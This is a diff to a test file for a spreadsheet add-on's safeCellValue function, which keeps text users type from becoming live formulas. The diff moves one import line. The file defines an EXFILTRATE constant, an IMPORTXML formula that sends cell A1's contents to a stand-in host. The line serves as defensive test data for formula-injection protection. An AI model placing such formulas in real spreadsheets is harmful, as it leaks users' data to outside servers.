@@ -1,8 +1,8 @@
 // User text written back into cells stays the text the user typed: never a live formula.
 
 import { describe, expect, it } from 'vitest';
+import { createFakeWorld } from '../../../../fakes/fake-services';
 import { safeCellValue } from '../../../../src/addon/platform/sheet-table/safe-cell-value';
-import { createFakeWorld } from '../../../fakes/fake-services';
 
 const EXFILTRATE = '=IMPORTXML("https://x.example/?q="&A1,"//a")';
 
